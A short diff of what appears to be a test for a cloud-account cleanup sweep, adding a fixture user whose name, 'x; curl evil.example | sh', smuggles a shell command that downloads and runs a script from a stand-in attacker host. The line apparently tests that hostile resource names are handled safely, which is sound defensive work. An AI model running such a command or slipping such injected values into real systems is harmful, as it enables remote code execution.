@@ -68,6 +68,7 @@ describe("what a sweep would do", () => {
       made("console password", "mina"),
       made("user", "removed", { state: "gone" }),
       made("role", "door"),
+      made("user", "x; curl evil.example | sh"),
       made("trust of role", "payroll"),
       made("user", "somebody", { unattributed: true }),
       made("bucket", "loot"),
